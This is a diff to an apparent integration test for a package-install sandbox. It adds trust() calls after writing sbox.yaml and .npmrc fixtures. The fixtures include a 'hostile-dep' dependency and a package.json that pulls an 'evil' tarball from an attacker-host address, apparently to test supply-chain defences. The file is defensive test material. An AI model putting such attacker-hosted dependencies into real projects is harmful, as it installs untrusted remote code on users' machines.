@@ -23,6 +23,7 @@ from support.attacks import attack_script  # noqa: E402
 from support.listener import CanaryListener, UdpCanaryListener  # noqa: E402
 from support.packages import npm_package, wheel  # noqa: E402
 from support.registries import NpmRegistry, PypiIndex  # noqa: E402
+from support.trust import trust
 
 ADDRESSES = {
     "npm": "10.77.0.10", "pypi": "10.77.0.11", "evil": "10.77.0.12", "dns": "10.77.0.53",
@@ -105,7 +106,9 @@ dispatch:
     profile: live
 """
     (project / "sbox.yaml").write_text(config)
+    trust(project / "sbox.yaml", env=env)
     (project / ".npmrc").write_text("registry=http://registry.sbox.test/\naudit=false\nfund=false\n")
+    trust(project / ".npmrc", env=env)
     (project / "package.json").write_text(json.dumps(
         {"name": "demo", "version": "1.0.0", "private": True,
          "dependencies": {"left-pad-ish": "1.0.0", "hostile-dep": "1.0.0"}}))
@@ -124,7 +127,9 @@ dispatch:
     tarball = work / "tarball"
     tarball.mkdir()
     (tarball / "sbox.yaml").write_text(config)
+    trust(tarball / "sbox.yaml", env=env)
     (tarball / ".npmrc").write_text("registry=http://registry.sbox.test/\naudit=false\nfund=false\n")
+    trust(tarball / ".npmrc", env=env)
     (tarball / "package.json").write_text(json.dumps(
         {"name": "t", "version": "1.0.0", "private": True,
          "dependencies": {"evil": f"http://{ADDRESSES['attacker']}:9000/evil-1.0.0.tgz"}}))
